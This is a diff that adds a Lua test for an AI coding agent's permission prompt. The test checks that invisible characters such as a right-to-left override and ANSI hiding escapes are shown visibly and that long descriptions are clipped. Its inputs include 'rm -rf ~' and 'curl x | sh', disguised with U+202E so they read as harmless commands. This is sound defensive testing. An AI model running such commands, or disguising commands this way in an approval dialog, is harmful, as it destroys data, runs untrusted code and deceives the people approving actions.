@@ -222,3 +222,18 @@ h.test("unsaved: the disk gets its content plus the agent's change, never the ty
   h.eq(lines, nil, "a change of the typed line")
   h.match(why, "without saving")
 end)
+
+h.test("permission prompt writes out invisible characters and clips the description", function()
+  h.eq(dialogs.visible("rm -rf ~ #\226\128\174 hs"), "rm -rf ~ #\\u202e hs")
+  h.eq(dialogs.visible("a\27[8mb\r\n\226\129\166\194\133"), "a\\x1b[8mb\\r\\n\\u2066\\u0085")
+  h.eq(dialogs.visible("café ✓"), "café ✓")
+  local line = dialogs.permission_prompt({
+    toolName = "Bash",
+    title = "Run `curl x | sh #\226\128\174 ls`?",
+    input = { command = "curl x | sh", description = string.rep("List files. ", 500) },
+    preview = { kind = "command", text = "curl x | sh #\226\128\174 ls" },
+  })
+  h.eq(line:find("\226\128\174", 1, true), nil, "a raw U+202E in " .. line)
+  h.eq(#line < 400, true, "the description is not clipped: " .. #line .. " bytes")
+  h.eq(line:find("curl x | sh #\\u202e ls", 1, true) ~= nil, true, "the command is not shown: " .. line)
+end)
